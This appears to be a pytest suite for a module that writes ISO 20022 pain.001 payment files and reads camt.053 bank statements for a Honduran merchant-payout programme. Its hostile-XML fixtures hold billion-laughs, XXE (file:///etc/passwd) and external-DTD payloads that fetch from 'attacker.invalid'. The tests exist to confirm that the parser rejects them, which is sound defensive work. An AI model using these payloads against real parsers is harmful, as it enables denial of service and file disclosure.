"""ISO 20022 settlement files on their own: pain.001 out, camt.053 in, the XSDs, hostile XML, reconciliation."""

from __future__ import annotations

import hashlib
import re
import uuid
import xml.etree.ElementTree as ET
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from carnet.kit.errors import AppError
from carnet.ledger.iso20022 import (
    AMOUNT_LIMIT,
    CREDIT_TRANSFER_VERSIONS,
    MESSAGES,
    NAMESPACE_PREFIX,
    STATEMENT_VERSIONS,
    Account,
    Party,
    Payout,
    PostalAddress,
    SettlementRun,
    Statement,
    StatementEntry,
    build_credit_transfer,
    end_to_end_id,
    format_amount,
    iban_is_valid,
    minor_digits,
    parse_amount,
    read_statement,
    reconcile,
    validate,
)

ROOT = Path(__file__).resolve().parents[3]
SCHEMAS = ROOT / "src/carnet/ledger/schemas"
CREATED = datetime(2026, 3, 1, 18, 30, tzinfo=UTC)
EXECUTION = date(2026, 3, 2)
RUN_ID = uuid.UUID("0195f3a2-7c00-7000-8000-00000000abcd")


def iban(country: str, bban: str) -> str:
    """An IBAN with the check digits ISO 13616 computes for the country and the domestic account number."""
    number = int("".join(str(int(char, 36)) for char in bban + country + "00"))
    return f"{country}{98 - number % 97:02d}{bban}"


ADDRESS = PostalAddress(
    country="HN", town="Tegucigalpa", street="Avenida Cervantes", building_number="1020", postal_code="11101"
)
DEBTOR_ACCOUNT = Account(iban=iban("HN", "BCMH00000000001234567890"), bic="BCMHHNTE")
DEBTOR = Party(name="Secretaría de Desarrollo e Inclusión Social", address=ADDRESS)
INITIATOR = Party(name="Carnet — Bono Tecnológico", organisation_id="08019999000001")


def payout(number: int, amount: int = 150_000, currency: str = "HNL", **changes: Any) -> Payout:
    """The payout to merchant `number`, paid by ledger transfer `number`."""
    fields: dict[str, Any] = {
        "transfer_id": uuid.UUID(int=(0x0195F3A2 << 96) + number),
        "amount": amount,
        "currency": currency,
        "creditor": Party(
            name=f"Pulpería Nº {number}",
            address=PostalAddress(country="HN", town="Comayagüela", street="Calle Real", building_number=str(number)),
        ),
        "account": Account(iban=iban("HN", f"BANP{number:020d}"), bic="BANPHNTE"),
        "remittance": f"Liquidación Carnet 2026-03-01 comercio {number}",
    }
    fields.update(changes)
    return Payout(**fields)


def run(*payouts: Payout, currency: str = "HNL", **changes: Any) -> SettlementRun:
    """A settlement run from the programme's bank account; two payouts unless told."""
    fields: dict[str, Any] = {
        "id": RUN_ID,
        "created_at": CREATED,
        "execution_date": EXECUTION,
        "currency": currency,
        "initiating_party": INITIATOR,
        "debtor": DEBTOR,
        "debtor_account": DEBTOR_ACCOUNT,
        "payouts": payouts or (payout(1, 150_000), payout(2, 98_765)),
    }
    fields.update(changes)
    return SettlementRun(**fields)


def ns(version: str) -> dict[str, str]:
    return {"p": NAMESPACE_PREFIX + version}


def refused(call: Any, *args: Any, **kwargs: Any) -> AppError:
    with pytest.raises(AppError) as caught:
        call(*args, **kwargs)
    return caught.value


# --- camt.053 written by the tests, as a bank would send it -------------------------------------------------------


def booked(payout_or_amount: Payout | int, **fields: Any) -> dict[str, Any]:
    """A booked debit of a payout (as the bank echoes it), or of an amount; fields override."""
    if isinstance(payout_or_amount, Payout):
        entry = {
            "amount": payout_or_amount.amount,
            "end_to_end_id": payout_or_amount.end_to_end_id,
            "remittance": payout_or_amount.remittance,
        }
    else:
        entry = {"amount": payout_or_amount}
    entry |= {"currency": "HNL", "indicator": "DBIT", "status": "BOOK", "msg_id": RUN_ID.hex, "pmt_inf_id": RUN_ID.hex}
    entry |= fields
    return entry


def statement_xml(
    entries: list[dict[str, Any]],
    *,
    version: str = "camt.053.001.08",
    accounts: tuple[Account, ...] = (DEBTOR_ACCOUNT,),
    check: bool = True,
) -> bytes:
    """A camt.053 document with one statement per account, each holding the entries; validated unless told."""
    v08 = version == "camt.053.001.08"
    document = ET.Element("Document", {"xmlns": NAMESPACE_PREFIX + version})
    report = ET.SubElement(document, "BkToCstmrStmt")
    header = ET.SubElement(report, "GrpHdr")
    ET.SubElement(header, "MsgId").text = "BCMH-STMT-20260302"
    ET.SubElement(header, "CreDtTm").text = "2026-03-02T23:59:00-06:00"
    for index, account in enumerate(accounts):
        statement = ET.SubElement(report, "Stmt")
        ET.SubElement(statement, "Id").text = f"STMT-{index}"
        ET.SubElement(statement, "CreDtTm").text = "2026-03-02T23:59:00-06:00"
        acct = ET.SubElement(statement, "Acct")
        identification = ET.SubElement(acct, "Id")
        if account.iban:
            ET.SubElement(identification, "IBAN").text = account.iban
        else:
            ET.SubElement(ET.SubElement(identification, "Othr"), "Id").text = account.other_id
        ET.SubElement(acct, "Ccy").text = "HNL"
        balance = ET.SubElement(statement, "Bal")
        ET.SubElement(ET.SubElement(ET.SubElement(balance, "Tp"), "CdOrPrtry"), "Cd").text = "CLBD"
        ET.SubElement(balance, "Amt", Ccy="HNL").text = "1000000.00"
        ET.SubElement(balance, "CdtDbtInd").text = "CRDT"
        ET.SubElement(ET.SubElement(balance, "Dt"), "Dt").text = "2026-03-02"
        for number, entry in enumerate(entries):
            _entry(statement, entry, number, v08)
    ET.indent(document)
    xml = ET.tostring(document, encoding="utf-8", xml_declaration=True)
    if check:
        validate(xml, version)
    return xml


def _entry(statement: ET.Element, entry: dict[str, Any], number: int, v08: bool) -> None:
    currency = entry.get("currency", "HNL")
    node = ET.SubElement(statement, "Ntry")
    ET.SubElement(node, "NtryRef").text = f"N{number}"
    ET.SubElement(node, "Amt", Ccy=currency).text = entry.get("amount_text") or format_amount(entry["amount"], currency)
    ET.SubElement(node, "CdtDbtInd").text = entry["indicator"]
    if v08:
        ET.SubElement(ET.SubElement(node, "Sts"), "Cd").text = entry["status"]
    else:
        ET.SubElement(node, "Sts").text = entry["status"]
    if "booking_time" in entry:
        ET.SubElement(ET.SubElement(node, "BookgDt"), "DtTm").text = entry["booking_time"]
    else:
        ET.SubElement(ET.SubElement(node, "BookgDt"), "Dt").text = entry.get("booking_date", "2026-03-02")
    ET.SubElement(ET.SubElement(node, "ValDt"), "Dt").text = "2026-03-02"
    ET.SubElement(node, "AcctSvcrRef").text = f"BCMH{number:08d}"
    if not entry.get("no_bank_code"):
        code = ET.SubElement(ET.SubElement(node, "BkTxCd"), "Domn")
        ET.SubElement(code, "Cd").text = "PMNT"
        family = ET.SubElement(code, "Fmly")
        ET.SubElement(family, "Cd").text = "ICDT" if entry["indicator"] == "DBIT" else "RCDT"
        ET.SubElement(family, "SubFmlyCd").text = "DMCT"
    details = ET.SubElement(node, "NtryDtls")
    for transaction in entry.get("transactions") or [entry]:
        _transaction(details, transaction, currency, v08)


def _transaction(details: ET.Element, transaction: dict[str, Any], currency: str, v08: bool) -> None:
    node = ET.SubElement(details, "TxDtls")
    refs = ET.SubElement(node, "Refs")
    for tag, key in (("MsgId", "msg_id"), ("PmtInfId", "pmt_inf_id"), ("EndToEndId", "end_to_end_id")):
        if transaction.get(key):
            ET.SubElement(refs, tag).text = transaction[key]
    if transaction.get("own_amount") is not None:
        amount = format_amount(transaction["own_amount"], currency)
        if v08:
            ET.SubElement(node, "Amt", Ccy=currency).text = amount
            ET.SubElement(node, "CdtDbtInd").text = transaction.get("indicator", "DBIT")
        else:
            ET.SubElement(ET.SubElement(ET.SubElement(node, "AmtDtls"), "TxAmt"), "Amt", Ccy=currency).text = amount
    if transaction.get("remittance"):
        ET.SubElement(ET.SubElement(node, "RmtInf"), "Ustrd").text = transaction["remittance"]


# --- the vendored schemas -----------------------------------------------------------------------------------------


def schema_table() -> dict[str, str]:
    """File name → SHA-256 from the schemas README's table."""
    text = (SCHEMAS / "README.md").read_text(encoding="utf-8")
    return dict(re.findall(r"^\| `([\w.]+\.xsd)` \|.*\| `([0-9a-f]{64})` \|$", text, flags=re.MULTILINE))


class TestVendoredSchemas:
    def test_every_schema_is_in_the_readme_with_its_hash(self):
        table = schema_table()
        assert sorted(table) == sorted(path.name for path in SCHEMAS.glob("*.xsd"))
        for name, digest in table.items():
            assert hashlib.sha256((SCHEMAS / name).read_bytes()).hexdigest() == digest, name

    def test_every_message_has_its_schema(self):
        assert sorted(f"{message}.xsd" for message in MESSAGES) == sorted(schema_table())

    def test_the_schemas_are_packaged(self):
        text = (ROOT / "pyproject.toml").read_text(encoding="utf-8")
        assert '"ledger/schemas/*"' in text


# --- pain.001 -----------------------------------------------------------------------------------------------------


class TestBuildCreditTransfer:
    @pytest.mark.parametrize("version", CREDIT_TRANSFER_VERSIONS)
    def test_each_version_validates_against_its_xsd(self, version):
        xml = build_credit_transfer(run(), version=version)
        validate(xml, version)
        root = ET.fromstring(xml)
        assert root.tag == f"{{{NAMESPACE_PREFIX}{version}}}Document"
        other = next(v for v in CREDIT_TRANSFER_VERSIONS if v != version)
        assert refused(validate, xml, other).code == "iso20022_invalid"

    def test_the_default_is_pain_001_001_09(self):
        assert build_credit_transfer(run()) == build_credit_transfer(run(), version="pain.001.001.09")

    def test_the_header_counts_and_sums_the_payouts(self):
        root = ET.fromstring(build_credit_transfer(run()))
        n = ns("pain.001.001.09")
        header = root.find("p:CstmrCdtTrfInitn/p:GrpHdr", n)
        assert header.findtext("p:MsgId", namespaces=n) == RUN_ID.hex
        assert header.findtext("p:CreDtTm", namespaces=n) == "2026-03-01T18:30:00+00:00"
        assert header.findtext("p:NbOfTxs", namespaces=n) == "2"
        assert header.findtext("p:CtrlSum", namespaces=n) == "2487.65"
        assert header.findtext("p:InitgPty/p:Nm", namespaces=n) == "Carnet — Bono Tecnológico"
        assert header.findtext("p:InitgPty/p:Id/p:OrgId/p:Othr/p:Id", namespaces=n) == "08019999000001"
        instruction = root.find("p:CstmrCdtTrfInitn/p:PmtInf", n)
        assert instruction.findtext("p:PmtInfId", namespaces=n) == RUN_ID.hex
        assert instruction.findtext("p:PmtMtd", namespaces=n) == "TRF"
        assert instruction.findtext("p:BtchBookg", namespaces=n) == "false"
        assert instruction.findtext("p:NbOfTxs", namespaces=n) == "2"
        assert instruction.findtext("p:CtrlSum", namespaces=n) == "2487.65"
        assert instruction.findtext("p:ReqdExctnDt/p:Dt", namespaces=n) == "2026-03-02"

    def test_the_debtor_is_the_settlement_bank_account(self):
        for version, bic in (("pain.001.001.09", "BICFI"), ("pain.001.001.03", "BIC")):
            n = ns(version)
            instruction = ET.fromstring(build_credit_transfer(run(), version=version)).find(
                "p:CstmrCdtTrfInitn/p:PmtInf", n
            )
            assert instruction.findtext("p:Dbtr/p:Nm", namespaces=n) == DEBTOR.name
            assert instruction.findtext("p:DbtrAcct/p:Id/p:IBAN", namespaces=n) == DEBTOR_ACCOUNT.iban
            assert instruction.findtext(f"p:DbtrAgt/p:FinInstnId/p:{bic}", namespaces=n) == "BCMHHNTE"

    @pytest.mark.parametrize("version", CREDIT_TRANSFER_VERSIONS)
    def test_one_transaction_per_payout_with_a_structured_address(self, version):
        n = ns(version)
        first = payout(1, 150_000)
        transactions = ET.fromstring(build_credit_transfer(run(), version=version)).findall(
            "p:CstmrCdtTrfInitn/p:PmtInf/p:CdtTrfTxInf", n
        )
        assert len(transactions) == 2
        transaction = transactions[0]
        assert transaction.findtext("p:PmtId/p:EndToEndId", namespaces=n) == first.end_to_end_id
        amount = transaction.find("p:Amt/p:InstdAmt", n)
        assert (amount.text, amount.get("Ccy")) == ("1500.00", "HNL")
        assert transaction.findtext("p:Cdtr/p:Nm", namespaces=n) == "Pulpería Nº 1"
        address = transaction.find("p:Cdtr/p:PstlAdr", n)
        assert [(child.tag.split("}")[1], child.text) for child in address] == [
            ("StrtNm", "Calle Real"),
            ("BldgNb", "1"),
            ("TwnNm", "Comayagüela"),
            ("Ctry", "HN"),
        ]
        assert transaction.findtext("p:CdtrAcct/p:Id/p:IBAN", namespaces=n) == first.account.iban
        assert transaction.findtext("p:RmtInf/p:Ustrd", namespaces=n) == first.remittance
        children = [child.tag.split("}")[1] for child in transaction]
        assert children == ["PmtId", "Amt", "CdtrAgt", "Cdtr", "CdtrAcct", "RmtInf"]

    def test_the_end_to_end_id_is_the_transfer_id_and_a_rebuild_is_identical(self):
        first = payout(7)
        assert first.end_to_end_id == end_to_end_id(first) == f"{first.transfer_id:032x}"
        assert len(first.end_to_end_id) <= 35
        assert payout(7, transfer_id=first.transfer_id).end_to_end_id == first.end_to_end_id
        assert build_credit_transfer(run()) == build_credit_transfer(run())

    def test_a_uuid_and_its_integer_are_the_same_ids(self):
        as_int = run(payout(1, transfer_id=uuid.UUID(int=99).int), id=RUN_ID.int)
        as_uuid = run(payout(1, transfer_id=uuid.UUID(int=99)), id=RUN_ID)
        assert build_credit_transfer(as_int) == build_credit_transfer(as_uuid)

    def test_the_creation_time_is_written_in_utc(self):
        honduras = timezone(timedelta(hours=-6))
        local = run(created_at=datetime(2026, 3, 1, 12, 30, tzinfo=honduras))
        assert build_credit_transfer(local) == build_credit_transfer(run())

    @pytest.mark.parametrize("version", CREDIT_TRANSFER_VERSIONS)
    def test_accounts_without_iban_or_bic(self, version):
        n = ns(version)
        plain = run(
            payout(1, account=Account(other_id="200012345678", bank_id="BANPAIS")),
            payout(2, account=Account(other_id="9988776655")),
            debtor_account=Account(other_id="11-222-333444"),
        )
        instruction = ET.fromstring(build_credit_transfer(plain, version=version)).find(
            "p:CstmrCdtTrfInitn/p:PmtInf", n
        )
        assert instruction.findtext("p:DbtrAcct/p:Id/p:Othr/p:Id", namespaces=n) == "11-222-333444"
        # The debtor agent is mandatory: without a BIC or a bank id the file says so.
        assert instruction.findtext("p:DbtrAgt/p:FinInstnId/p:Othr/p:Id", namespaces=n) == "NOTPROVIDED"
        first, second = instruction.findall("p:CdtTrfTxInf", n)
        assert first.findtext("p:CdtrAgt/p:FinInstnId/p:Othr/p:Id", namespaces=n) == "BANPAIS"
        assert first.findtext("p:CdtrAcct/p:Id/p:Othr/p:Id", namespaces=n) == "200012345678"
        assert second.find("p:CdtrAgt", n) is None

    def test_pain_001_001_03_writes_the_execution_date_as_a_date(self):
        n = ns("pain.001.001.03")
        root = ET.fromstring(build_credit_transfer(run(), version="pain.001.001.03"))
        assert root.findtext("p:CstmrCdtTrfInitn/p:PmtInf/p:ReqdExctnDt", namespaces=n) == "2026-03-02"

    def test_the_largest_amount_iso_20022_allows(self):
        biggest = run(payout(1, AMOUNT_LIMIT - 1))
        n = ns("pain.001.001.09")
        root = ET.fromstring(build_credit_transfer(biggest))
        assert root.findtext("p:CstmrCdtTrfInitn/p:GrpHdr/p:CtrlSum", namespaces=n) == "9999999999999999.99"

    def test_an_unknown_version_is_refused(self):
        assert refused(build_credit_transfer, run(), version="pain.001.001.05").code == "iso20022_message_unknown"

    def test_a_name_the_xsd_refuses_is_named_with_its_path(self):
        long_name = replace(payout(2).creditor, name="P" * 141)
        error = refused(build_credit_transfer, run(payout(1), payout(2, creditor=long_name)))
        assert error.code == "iso20022_invalid"
        assert error.extra["path"] == "/Document/CstmrCdtTrfInitn/PmtInf/CdtTrfTxInf[2]/Cdtr/Nm"
        assert error.message.startswith("/Document/CstmrCdtTrfInitn/PmtInf/CdtTrfTxInf[2]/Cdtr/Nm: ")
        assert "{urn:" not in error.message


class TestAmounts:
    @pytest.mark.parametrize(
        ("minor", "currency", "text"),
        [
            (1, "HNL", "0.01"),
            (10, "HNL", "0.10"),
            (100, "HNL", "1.00"),
            (123456, "HNL", "1234.56"),
            (0, "HNL", "0.00"),
            (1234, "JPY", "1234"),
            (1, "KWD", "0.001"),
            (12345, "CLF", "1.2345"),
            (AMOUNT_LIMIT - 1, "HNL", "9999999999999999.99"),
        ],
    )
    def test_minor_units_are_written_exactly(self, minor, currency, text):
        assert format_amount(minor, currency) == text
        assert parse_amount(text, currency) == minor

    def test_digits_per_currency(self):
        assert [minor_digits(c) for c in ("HNL", "USD", "EUR", "JPY", "KWD", "CLF")] == [2, 2, 2, 0, 3, 4]

    @pytest.mark.parametrize(("text", "currency"), [("10.005", "HNL"), ("1.5", "JPY"), ("abc", "HNL"), ("-1", "HNL")])
    def test_an_amount_finer_than_the_currency_is_refused(self, text, currency):
        assert refused(parse_amount, text, currency).code == "statement_amount_invalid"

    def test_trailing_zeros_and_plain_integers_read_exactly(self):
        assert parse_amount("10.500", "HNL") == 1050
        assert parse_amount("7", "HNL") == 700
        assert parse_amount("+0012.30", "HNL") == 1230

    @settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
    @given(
        currency=st.sampled_from(["HNL", "JPY", "KWD", "CLF"]),
        amounts=st.lists(
            st.one_of(st.integers(1, 10**6), st.integers(1, 10**15), st.just(10**15)), min_size=1, max_size=40
        ),
        version=st.sampled_from(CREDIT_TRANSFER_VERSIONS),
    )
    def test_amounts_and_control_sum_are_exact(self, currency, amounts, version):
        payouts = [payout(i + 1, amount, currency) for i, amount in enumerate(amounts)]
        xml = build_credit_transfer(run(*payouts, currency=currency), version=version)
        n = ns(version)
        root = ET.fromstring(xml)
        digits = minor_digits(currency)
        written = [e.text for e in root.iterfind("p:CstmrCdtTrfInitn/p:PmtInf/p:CdtTrfTxInf/p:Amt/p:InstdAmt", n)]
        assert written == [format_amount(amount, currency) for amount in amounts]
        assert [int(Decimal(text).scaleb(digits)) for text in written] == amounts
        assert all(len(text.partition(".")[2]) == digits for text in written)
        for path in ("p:CstmrCdtTrfInitn/p:GrpHdr", "p:CstmrCdtTrfInitn/p:PmtInf"):
            assert root.findtext(f"{path}/p:NbOfTxs", namespaces=n) == str(len(amounts))
            control_sum = root.findtext(f"{path}/p:CtrlSum", namespaces=n)
            assert Decimal(control_sum).scaleb(digits) == sum(amounts)
            assert control_sum == format_amount(sum(amounts), currency)
        assert sum(Decimal(text) for text in written) == Decimal(control_sum)


class TestSettlementRunRefuses:
    @pytest.mark.parametrize(
        ("make", "code"),
        [
            (lambda: run(payouts=()), "settlement_no_payouts"),
            (lambda: payout(1, 0), "settlement_amount_invalid"),
            (lambda: payout(1, -5), "settlement_amount_invalid"),
            (lambda: payout(1, 12.5), "settlement_amount_invalid"),
            (lambda: payout(1, True), "settlement_amount_invalid"),
            (lambda: payout(1, Decimal("10")), "settlement_amount_invalid"),
            (lambda: payout(1, AMOUNT_LIMIT), "settlement_amount_too_large"),
            (lambda: run(payout(1, AMOUNT_LIMIT - 1), payout(2, 1)), "settlement_amount_too_large"),
            (lambda: run(payout(1), payout(2, currency="USD")), "settlement_currency_mismatch"),
            (lambda: run(payout(1), payout(1)), "settlement_payout_duplicate"),
            (lambda: payout(1, transfer_id=0), "settlement_id_invalid"),
            (lambda: run(id=2**128), "settlement_id_invalid"),
            (lambda: run(created_at=datetime(2026, 3, 1, 18, 30)), "iso20022_time_naive"),
            (lambda: payout(1, currency="hnl"), "iso20022_currency_invalid"),
            (lambda: payout(1, creditor=Party(name="Sin dirección")), "settlement_address_missing"),
            (lambda: run(debtor=Party(name="Sin dirección")), "settlement_address_missing"),
            (lambda: Account(iban="HN00BCMH00000000001234567890"), "iso20022_account_invalid"),
            (lambda: Account(iban="HN20 BCMH 0000 0000 0012 3456 7890"), "iso20022_account_invalid"),
            (lambda: Account(), "iso20022_account_invalid"),
            (lambda: Account(iban=DEBTOR_ACCOUNT.iban, other_id="123"), "iso20022_account_invalid"),
            (lambda: Party(name="Pulpería\nLa Bendición"), "iso20022_text_invalid"),
            (lambda: Party(name="Pulpería \x00"), "iso20022_text_invalid"),
            (lambda: Party(name="  "), "iso20022_text_invalid"),
            (lambda: Party(name=" Pulpería"), "iso20022_text_invalid"),
            (lambda: PostalAddress(country="hn", town="Tegucigalpa"), "iso20022_text_invalid"),
            (lambda: payout(1, remittance=""), "iso20022_text_invalid"),
        ],
    )
    def test_bad_input_gets_its_code(self, make, code):
        error = refused(make)
        assert error.code == code
        assert error.status == 422

    def test_iban_check_digits(self):
        assert iban_is_valid("GB82WEST12345698765432")
        assert iban_is_valid(DEBTOR_ACCOUNT.iban)
        assert not iban_is_valid("GB82WEST12345698765433")
        assert not iban_is_valid("gb82WEST12345698765432")


# --- validation ---------------------------------------------------------------------------------------------------

HAND_MADE = """<?xml version="1.0" encoding="UTF-8"?>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.001.001.09">
  <CstmrCdtTrfInitn>
    <GrpHdr>
      <MsgId>HAND-MADE-1</MsgId>
      <CreDtTm>2026-03-01T18:30:00+00:00</CreDtTm>
      <NbOfTxs>2</NbOfTxs>
      <CtrlSum>30.00</CtrlSum>
      <InitgPty><Nm>Carnet</Nm></InitgPty>
    </GrpHdr>
    <PmtInf>
      <PmtInfId>HAND-MADE-1</PmtInfId>
      <PmtMtd>TRF</PmtMtd>
      <ReqdExctnDt><Dt>2026-03-02</Dt></ReqdExctnDt>
      <Dbtr><Nm>Programa</Nm></Dbtr>
      <DbtrAcct><Id><Othr><Id>1</Id></Othr></Id></DbtrAcct>
      <DbtrAgt><FinInstnId><Othr><Id>NOTPROVIDED</Id></Othr></FinInstnId></DbtrAgt>
      <CdtTrfTxInf>
        <PmtId><EndToEndId>E2E-1</EndToEndId></PmtId>
        <Amt><InstdAmt Ccy="HNL">10.00</InstdAmt></Amt>
        <Cdtr><Nm>Uno</Nm></Cdtr>
        <CdtrAcct><Id><Othr><Id>2</Id></Othr></Id></CdtrAcct>
      </CdtTrfTxInf>
      <CdtTrfTxInf>
        <PmtId><EndToEndId>E2E-2</EndToEndId></PmtId>
        <Amt><InstdAmt Ccy="HNL">{amount}</InstdAmt></Amt>
        <Cdtr><Nm>Dos</Nm></Cdtr>
        <CdtrAcct><Id><Othr><Id>3</Id></Othr></Id></CdtrAcct>
      </CdtTrfTxInf>
    </PmtInf>
  </CstmrCdtTrfInitn>
</Document>
"""


class TestValidate:
    def test_the_hand_made_document_is_valid_as_written(self):
        validate(HAND_MADE.format(amount="20.00").encode(), "pain.001.001.09")

    @pytest.mark.parametrize("amount", ["20.123456", "-20.00", "veinte"])
    def test_a_bad_amount_is_refused_with_its_path(self, amount):
        error = refused(validate, HAND_MADE.format(amount=amount).encode(), "pain.001.001.09")
        assert error.code == "iso20022_invalid"
        path = "/Document/CstmrCdtTrfInitn/PmtInf/CdtTrfTxInf[2]/Amt/InstdAmt"
        assert error.extra == {"schema": "pain.001.001.09", "path": path}
        assert error.message.startswith(path + ": ")

    def test_a_missing_element_is_refused_at_its_parent(self):
        xml = HAND_MADE.format(amount="20.00").replace("<PmtMtd>TRF</PmtMtd>", "").encode()
        error = refused(validate, xml, "pain.001.001.09")
        assert error.extra["path"] == "/Document/CstmrCdtTrfInitn/PmtInf"
        assert "PmtMtd" in error.message and "{urn:" not in error.message

    def test_another_message_is_refused_at_the_root(self):
        error = refused(validate, HAND_MADE.format(amount="20.00").encode(), "pain.001.001.03")
        assert (error.code, error.extra["path"]) == ("iso20022_invalid", "/Document")

    def test_an_unknown_message_is_refused(self):
        assert refused(validate, b"<Document/>", "pain.002.001.10").code == "iso20022_message_unknown"

    @pytest.mark.parametrize("xml", [b"", b"<Document>", b"<a></b>", b"not xml at all"])
    def test_malformed_xml_is_refused_with_its_position(self, xml):
        error = refused(validate, xml, "pain.001.001.09")
        assert error.code == "iso20022_malformed"
        assert "line" in error.message

    def test_text_instead_of_bytes_is_refused(self):
        assert refused(validate, HAND_MADE.format(amount="1.00"), "pain.001.001.09").code == "iso20022_malformed"


HOSTILE = {
    "billion laughs": b"""<?xml version="1.0"?>
<!DOCTYPE Document [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"><BkToCstmrStmt>&lol3;</BkToCstmrStmt></Document>""",
    "external entity": b"""<?xml version="1.0"?>
<!DOCTYPE Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"><BkToCstmrStmt>&xxe;</BkToCstmrStmt></Document>""",
    "external dtd": b"""<?xml version="1.0"?>
<!DOCTYPE Document SYSTEM "http://attacker.invalid/camt.dtd">
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"/>""",
    "parameter entity": b"""<?xml version="1.0"?>
<!DOCTYPE Document [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"/>""",
    "internal dtd": b"""<?xml version="1.0"?>
<!DOCTYPE Document [<!ELEMENT Document ANY>]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"/>""",
}


class TestHostileXml:
    @pytest.mark.parametrize("xml", HOSTILE.values(), ids=HOSTILE.keys())
    def test_read_statement_refuses_it_before_anything_expands(self, xml):
        error = refused(read_statement, xml)
        assert error.code == "iso20022_forbidden_markup"

    @pytest.mark.parametrize("xml", HOSTILE.values(), ids=HOSTILE.keys())
    def test_validate_refuses_it_too(self, xml):
        assert refused(validate, xml, "camt.053.001.08").code == "iso20022_forbidden_markup"

    def test_a_statement_with_a_dtd_in_front_of_valid_content_is_still_refused(self):
        xml = statement_xml([booked(payout(1))])
        hostile = xml.replace(b"<Document", b"<!DOCTYPE Document>\n<Document", 1)
        assert refused(read_statement, hostile).code == "iso20022_forbidden_markup"


# --- camt.053 -----------------------------------------------------------------------------------------------------


class TestReadStatement:
    @pytest.mark.parametrize("version", STATEMENT_VERSIONS)
    def test_booked_entries_are_read_exactly_and_pending_ones_left_out(self, version):
        first = payout(1, 150_001)
        xml = statement_xml(
            [
                booked(first),
                booked(2_500, indicator="CRDT", end_to_end_id="FUNDING-1", msg_id=None, pmt_inf_id=None),
                booked(payout(2), status="PDNG"),
            ],
            version=version,
        )
        statement = read_statement(xml)
        assert isinstance(statement, Statement)
        assert statement.message == version
        assert statement.message_id == "BCMH-STMT-20260302"
        assert statement.statement_ids == ("STMT-0",)
        assert statement.account.iban == DEBTOR_ACCOUNT.iban
        assert statement.currency == "HNL"
        assert statement.entries == (
            StatementEntry(
                amount=150_001,
                currency="HNL",
                credit_debit="DBIT",
                booking_date=date(2026, 3, 2),
                end_to_end_id=first.end_to_end_id,
                remittance=first.remittance,
                message_id=RUN_ID.hex,
                payment_information_id=RUN_ID.hex,
                reference="BCMH00000000",
            ),
            StatementEntry(
                amount=2_500,
                currency="HNL",
                credit_debit="CRDT",
                booking_date=date(2026, 3, 2),
                end_to_end_id="FUNDING-1",
                reference="BCMH00000001",
            ),
        )

    @pytest.mark.parametrize("version", STATEMENT_VERSIONS)
    def test_a_batch_booking_is_split_per_transaction(self, version):
        first, second = payout(1, 100_000), payout(2, 23_456)
        batch = booked(
            123_456,
            transactions=[
                {"end_to_end_id": first.end_to_end_id, "own_amount": 100_000, "pmt_inf_id": RUN_ID.hex},
                {"end_to_end_id": second.end_to_end_id, "own_amount": 23_456, "pmt_inf_id": RUN_ID.hex},
            ],
        )
        entries = read_statement(statement_xml([batch], version=version)).entries
        assert [(e.amount, e.end_to_end_id, e.credit_debit) for e in entries] == [
            (100_000, first.end_to_end_id, "DBIT"),
            (23_456, second.end_to_end_id, "DBIT"),
        ]

    def test_a_batch_without_amounts_per_transaction_stays_one_entry_without_an_id(self):
        batch = booked(123_456, transactions=[{"end_to_end_id": "A"}, {"end_to_end_id": "B"}])
        (entry,) = read_statement(statement_xml([batch])).entries
        assert (entry.amount, entry.end_to_end_id) == (123_456, None)

    @pytest.mark.parametrize("version", STATEMENT_VERSIONS)
    def test_a_booking_time_gives_its_day_as_written(self, version):
        xml = statement_xml([booked(payout(1), booking_time="2026-03-02T23:15:00-06:00")], version=version)
        assert read_statement(xml).entries[0].booking_date == date(2026, 3, 2)

    def test_a_booking_date_no_bank_uses_is_refused(self):
        xml = statement_xml([booked(payout(1), booking_date="12026-03-02")])
        assert refused(read_statement, xml).code == "iso20022_invalid"

    def test_notprovided_is_no_end_to_end_id(self):
        (entry,) = read_statement(statement_xml([booked(payout(1), end_to_end_id="NOTPROVIDED")])).entries
        assert entry.end_to_end_id is None
        assert entry.remittance == payout(1).remittance

    def test_an_amount_finer_than_its_currency_is_refused(self):
        xml = statement_xml([booked(1, amount_text="10.005")])
        assert refused(read_statement, xml).code == "statement_amount_invalid"

    def test_an_invalid_statement_is_refused_with_its_path(self):
        xml = statement_xml([booked(payout(1)), booked(payout(2), no_bank_code=True)], check=False)
        error = refused(read_statement, xml)
        assert error.code == "iso20022_invalid"
        assert error.extra["path"] == "/Document/BkToCstmrStmt/Stmt/Ntry[2]"
        assert "BkTxCd" in error.message

    def test_a_credit_transfer_is_not_a_statement(self):
        assert refused(read_statement, build_credit_transfer(run())).code == "iso20022_message_unknown"

    def test_a_statement_of_several_accounts_is_refused(self):
        other = Account(iban=iban("HN", "BCMH00000000009999999999"))
        xml = statement_xml([booked(payout(1))], accounts=(DEBTOR_ACCOUNT, other))
        assert refused(read_statement, xml).code == "statement_several_accounts"

    def test_several_statements_of_one_account_are_read_together(self):
        xml = statement_xml([booked(payout(1))], accounts=(DEBTOR_ACCOUNT, DEBTOR_ACCOUNT))
        statement = read_statement(xml)
        assert statement.statement_ids == ("STMT-0", "STMT-1")
        assert len(statement.entries) == 2


# --- reconciliation -----------------------------------------------------------------------------------------------


class TestReconcile:
    def test_a_statement_that_books_every_payout_reconciles_completely(self):
        settled = run()
        outcome = reconcile(settled, read_statement(statement_xml([booked(p) for p in settled.payouts])))
        assert outcome.complete
        assert [m.payout for m in outcome.matched] == list(settled.payouts)
